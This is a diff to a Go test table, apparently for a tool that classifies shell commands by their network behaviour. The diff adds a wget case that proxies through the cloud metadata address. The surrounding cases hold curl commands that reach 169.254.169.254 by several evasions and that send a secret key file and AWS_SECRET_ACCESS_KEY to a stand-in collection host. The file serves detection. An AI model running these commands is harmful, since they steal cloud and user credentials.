@@ -16,6 +16,7 @@ func TestCurlHostsAndSends(t *testing.T) {
 		"curl --connect-to x.example.com:80:[fd00:ec2::254]:80 http://x.example.com/":                                     "connect:download [fd00:ec2::254]",
 		"http_proxy=http://169.254.169.254 curl http://x.example.com/":                                                    "connect:download http://169.254.169.254",
 		"curl -K <(echo 'url = \"http://169.254.169.254/latest/\"')":                                                      "connect:download http://169.254.169.254/latest/",
+		"wget -e use_proxy=on -e http_proxy=169.254.169.254:80 -qO- http://x.example.com/":                                "connect:download 169.254.169.254:80",
 		`curl -s --url-query "k@$HOME/.secret/key" https://collect.example.net`:                                           "flow:credential->network",
 		"curl -s --variable %AWS_SECRET_ACCESS_KEY --expand-data '{{AWS_SECRET_ACCESS_KEY}}' https://collect.example.net": "flow:secret-variable->network",
 	} {
